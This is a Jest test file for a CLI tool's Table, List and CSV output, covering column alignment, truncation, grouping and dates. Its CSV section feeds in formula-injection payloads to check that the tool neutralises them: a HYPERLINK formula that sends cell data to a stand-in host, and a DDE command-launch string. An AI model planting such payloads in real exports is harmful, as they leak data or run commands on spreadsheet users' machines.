/**
 * Table and List output for people, driven in-process with a forced terminal width: columns line
 * up in every script (checked by column, with widths counted by hand, never with the module's own
 * width function), ids are never cut, text takes the room left, lesser columns are left out
 * first, rows are grouped, dates are shown for people; the terminal's default format; Csv that a
 * spreadsheet opens safely.
 */
import { afterAll, describe, expect, it } from '@jest/globals';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { defineCmdlet, type ViewColumn } from '../../lib/cmdlet-support/cmdlet.js';
import { runInProcess } from '../fixtures/host/run-in-process.js';
import {
  expectLinedUpByHand,
  guid,
  scriptRows,
  scriptView,
} from '../fixtures/text/script-table.js';
import { parseNdjson } from '../support/ndjson.js';

const configDir = mkdtempSync(join(tmpdir(), 'pc-people-'));
afterAll(() => rmSync(configDir, { recursive: true, force: true }));
const env = { PARTNERCENTER_CONFIG_DIR: configDir };

/** A cmdlet that writes the given rows under the given view. */
function rowsCmdlet(view: readonly ViewColumn[], rows: readonly Record<string, unknown>[]) {
  return defineCmdlet({
    name: 'Get-Rows',
    synopsis: 'Fixture.',
    description: 'Writes fixed rows under a declared view.',
    parameters: {},
    view,
    examples: [],
    async *run() {
      yield* rows;
    },
  });
}

describe('Table in every script', () => {
  it.each([120, 60])(
    'lines up every column at %i columns (names whole where they fit, cut between graphemes)',
    async (columns) => {
      const result = await runInProcess(rowsCmdlet(scriptView, scriptRows), ['-of', 'Table'], {
        env,
        columns,
      });
      expect(result.code).toBe(0);
      expectLinedUpByHand(result.stdout, columns);
    },
  );
});

describe('Table layout', () => {
  const view: ViewColumn[] = [
    { name: 'CustomerId', path: 'customerId', kind: 'id' },
    { name: 'CompanyName', path: 'companyName', kind: 'text', minWidth: 30 },
    { name: 'Status', path: 'status', minWidth: 11 },
    { name: 'ExpiresOn', path: 'expiresOn', kind: 'date', drop: 3 },
    { name: 'HasGlobalAdministrator', path: 'ga', shortName: 'GlobalAdmin', drop: 2 },
    { name: 'RelationshipIds', path: 'relationshipIds', drop: 1 },
  ];
  const rows = [0, 1, 2].map((i) => ({
    customerId: guid(i),
    companyName: [
      'Müller Gebäudetechnik GmbH & Co. KG',
      '有限会社青空ソリューションズ',
      'Fabrikam',
    ][i],
    status: 'expiresSoon',
    expiresOn: ['2028-07-19T07:20:32.245Z', '2026-12-25T00:00:00Z', '2027-01-02T10:00:00+00:00'][i],
    ga: i === 0,
    relationshipIds: [`${guid(i)}-${guid(9)}`, `${guid(i + 3)}-${guid(9)}`],
  }));
  const table = async (columns: number, extra: string[] = []) =>
    (
      await runInProcess(rowsCmdlet(view, rows), ['-of', 'Table', ...extra], { env, columns })
    ).stdout
      .trimEnd()
      .split('\n');

  it('keeps ids and names whole at 120 columns, leaving out the least important column', async () => {
    const lines = await table(120);
    expect(lines[0]).toMatch(/^CustomerId\s+CompanyName\s+Status\s+ExpiresOn\s+GlobalAdmin$/);
    for (const [i, row] of rows.entries()) {
      expect(lines[2 + i]).toContain(row.customerId);
      expect(lines[2 + i]).toContain(row.companyName);
    }
    expect(lines.join('\n')).not.toContain('RelationshipIds');
  });

  it('shows a date for people: the day at midnight UTC, else to the minute', async () => {
    const lines = await table(120);
    expect(lines[2]).toContain(' 2028-07-19 07:20Z ');
    expect(lines[3]).toMatch(/ 2026-12-25 /);
    expect(lines[4]).toContain(' 2027-01-02 10:00Z ');
  });

  it('at 80 columns leaves out whole columns in the declared order, never cutting an id', async () => {
    const lines = await table(80);
    expect(lines[0]).toMatch(/^CustomerId\s+CompanyName\s+Status$/);
    for (const [i, row] of rows.entries()) {
      expect(lines[2 + i]!.startsWith(`${row.customerId}  `)).toBe(true);
      expect(lines[2 + i]).toContain('expiresSoon');
    }
    // The company name gets what is left (80 - 1 - 36 - 11 - two gaps = 28 cells): whole when
    // shorter, cut with an ellipsis when longer.
    expect(lines[4]).toContain('  Fabrikam  ');
    expect(lines[2]).toContain('  Müller Gebäudetechnik GmbH …  expiresSoon');
  });

  it('on a terminal too narrow even for the ids, cuts text and values but prints ids whole', async () => {
    const lines = await table(40);
    for (const [i, row] of rows.entries()) expect(lines[2 + i]).toContain(row.customerId);
  });

  it('-Property shows exactly the columns asked for, none left out', async () => {
    const lines = await table(120, ['-Property', 'customerId,relationshipIds']);
    expect(lines[0]).toMatch(/^customerId\s+relationshipIds$/);
  });

  it('groups rows under a line per group value instead of repeating it in a column', async () => {
    const grouped = rowsCmdlet(
      [
        { name: 'CustomerId', path: 'customerId', kind: 'id', group: true },
        { name: 'SubscriptionId', path: 'id', kind: 'id' },
        { name: 'Offer', path: 'offerName', kind: 'text' },
      ],
      [
        { customerId: guid(1), id: guid(11), offerName: 'Microsoft 365 Business Standard' },
        { customerId: guid(1), id: guid(12), offerName: 'Power BI Pro' },
        { customerId: guid(2), id: guid(21), offerName: 'Minecraft Education Edition Faculty' },
      ],
    );
    const result = await runInProcess(grouped, ['-of', 'Table'], { env, columns: 80 });
    expect(result.stdout.split('\n')).toEqual([
      `CustomerId: ${guid(1)}`,
      '',
      expect.stringMatching(/^SubscriptionId\s+Offer$/),
      expect.stringMatching(/^-{14}\s+-{5}$/),
      `${guid(11)}  Microsoft 365 Business Standard`,
      `${guid(12)}  Power BI Pro`,
      '',
      `CustomerId: ${guid(2)}`,
      '',
      expect.stringMatching(/^SubscriptionId\s+Offer$/),
      expect.stringMatching(/^-{14}\s+-{5}$/),
      `${guid(21)}  Minecraft Education Edition Faculty`,
      '',
    ]);
  });
});

describe('Group lines', () => {
  it("cut a long name to the terminal, never the group's id", async () => {
    const grouped = rowsCmdlet(
      [
        { name: 'CustomerId', path: 'customerId', kind: 'id', group: true },
        { name: 'Customer', path: 'name', kind: 'text', group: true },
        { name: 'Status', path: 'status' },
      ],
      [{ customerId: guid(1), name: `Très ${'long '.repeat(20)}name`, status: 'active' }],
    );
    const result = await runInProcess(grouped, ['-of', 'Table'], { env, columns: 80 });
    const group = result.stdout.split('\n')[0]!;
    expect(group.startsWith(`CustomerId: ${guid(1)}  Customer: Très long long`)).toBe(true);
    expect(group.endsWith('…')).toBe(true);
    expect([...group].length).toBe(79);
  });
});

describe('Table too narrow for its ids', () => {
  const relationships = rowsCmdlet(
    [
      { name: 'CustomerId', path: 'customerId', kind: 'id', group: true },
      { name: 'Status', path: 'status', minWidth: 20 },
      { name: 'EndDateTime', path: 'end', kind: 'date', drop: 1 },
      { name: 'Id', path: 'id', kind: 'id' },
    ],
    [1, 2].map((n) => ({
      customerId: guid(n),
      status: 'active',
      end: '2028-07-19T07:20:32Z',
      id: `${guid(n + 10)}-${guid(n)}`,
    })),
  );

  it("shows the view's columns as a list when the table was only the terminal's default", async () => {
    const result = await runInProcess(relationships, [], { env, stdoutIsTTY: true, columns: 80 });
    expect(result.stdout).toBe(
      [1, 2]
        .map((n) =>
          [
            `CustomerId  : ${guid(n)}`,
            'Status      : active',
            'EndDateTime : 2028-07-19T07:20:32Z',
            `Id          : ${guid(n + 10)}-${guid(n)}`,
            '',
          ].join('\n'),
        )
        .join('\n'),
    );
    // Wide enough, it is a table.
    const wide = await runInProcess(relationships, [], { env, stdoutIsTTY: true, columns: 120 });
    expect(wide.stdout.split('\n')[2]).toMatch(/^Status\s+EndDateTime\s+Id$/);
  });

  it('keeps the table that was asked for, ids whole and values cut', async () => {
    const result = await runInProcess(relationships, ['-of', 'Table'], { env, columns: 80 });
    const lines = result.stdout.split('\n');
    expect(lines[2]).toMatch(/^Sta…\s+Id$/);
    expect(lines[4]).toBe(`act…  ${guid(11)}-${guid(1)}`);
  });
});

describe('List', () => {
  const one = rowsCmdlet(scriptView, [
    { id: guid(1), name: 'Café ☕', nested: { tenantId: guid(2), scopes: ['a', 'b'] } },
  ]);

  it('shows every property as name : value, ids and long values whole', async () => {
    const result = await runInProcess(one, ['-of', 'List'], { env, columns: 40 });
    expect(result.stdout).toBe(
      [
        `id              : ${guid(1)}`,
        'name            : Café ☕',
        `nested.tenantId : ${guid(2)}`,
        'nested.scopes   : ["a","b"]',
        '',
      ].join('\n'),
    );
  });

  it('separates objects with a blank line and takes -Property', async () => {
    const result = await runInProcess(
      rowsCmdlet(scriptView, scriptRows.slice(0, 2)),
      ['-of', 'List', '-Property', 'id,status'],
      { env },
    );
    expect(result.stdout).toBe(
      `id     : ${guid(0)}\nstatus : expiresSoon\n\nid     : ${guid(1)}\nstatus : active\n`,
    );
  });

  it('is what a one-object command shows on a terminal, and NDJSON is what a pipe gets', async () => {
    const declared = defineCmdlet({
      name: 'Get-One',
      synopsis: 'Fixture.',
      description: 'One object, shown as a list on a terminal.',
      parameters: { Many: { type: 'switch', description: 'Several objects.' } },
      view: scriptView,
      terminalFormat: (given) => (given.Many ? 'Table' : 'List'),
      examples: [],
      async *run(p) {
        yield scriptRows[0];
        if (p.Many) yield scriptRows[1];
      },
    });
    const terminal = await runInProcess(declared, [], { env, stdoutIsTTY: true, columns: 80 });
    expect(terminal.stdout).toBe(
      `id     : ${guid(0)}\nname   : Contoso Ltd\nstatus : expiresSoon\n`,
    );
    const many = await runInProcess(declared, ['-Many'], { env, stdoutIsTTY: true, columns: 80 });
    expect(many.stdout.split('\n')[0]).toMatch(/^Id\s+Name\s+Status$/);
    const piped = await runInProcess(declared, [], { env });
    expect(parseNdjson(piped.stdout)).toEqual([scriptRows[0]]);
  });
});

describe('Csv for spreadsheets', () => {
  const hostile = rowsCmdlet(
    [
      { name: 'Name', path: 'name' },
      { name: 'Quantity', path: 'quantity' },
    ],
    [
      { name: '=HYPERLINK("http://x.example/?"&A1,"Click")', quantity: -5 },
      { name: "+1+cmd|' /C calc'!A0", quantity: '-5' },
      { name: '-2+3', quantity: '+1.5' },
      { name: '@SUM(1,1)', quantity: 0 },
      { name: '\tTabbed', quantity: '-1e3' },
      { name: '\rReturn', quantity: 7 },
      { name: 'Contoso = fine', quantity: '-' },
      { name: '-', quantity: null },
    ],
  );

  it('neutralises a text that would start a formula, as OWASP advises, and keeps numbers numbers', async () => {
    const result = await runInProcess(hostile, ['-of', 'Csv'], { env });
    expect(result.stdout.split('\r\n')).toEqual([
      'Name,Quantity',
      `"'=HYPERLINK(""http://x.example/?""&A1,""Click"")",-5`,
      `"'+1+cmd|' /C calc'!A0",-5`,
      `"'-2+3",+1.5`,
      `"'@SUM(1,1)",0`,
      `"'\tTabbed",-1e3`,
      `"'\rReturn",7`,
      `Contoso = fine,"'-"`,
      `"'-",`,
      '',
    ]);
  });

  it('starts with a UTF-8 byte-order mark only with -Encoding utf8BOM', async () => {
    const names = rowsCmdlet(scriptView, scriptRows.slice(1, 3));
    const plain = await runInProcess(names, ['-of', 'Csv'], { env });
    expect(plain.stdout.startsWith('Id,Name,Status\r\n')).toBe(true);
    const marked = await runInProcess(names, ['-of', 'Csv', '-Encoding', 'utf8BOM'], { env });
    expect(marked.stdout).toBe(`\uFEFF${plain.stdout}`);
    expect(marked.stdout).toContain('콘토소 주식회사');
  });

  it('refuses -Encoding utf8BOM with a format that must not carry one (exit 2, nothing written)', async () => {
    for (const format of [[], ['-of', 'Ndjson'], ['-of', 'Json'], ['-of', 'Table']]) {
      const result = await runInProcess(
        rowsCmdlet(scriptView, scriptRows),
        [...format, '-Encoding', 'utf8BOM'],
        { env },
      );
      expect(result.code).toBe(2);
      expect(result.stdout).toBe('');
      expect(result.stderr).toMatch(/^Get-Rows: -Encoding utf8BOM is for -OutputFormat Csv/);
    }
  });
});
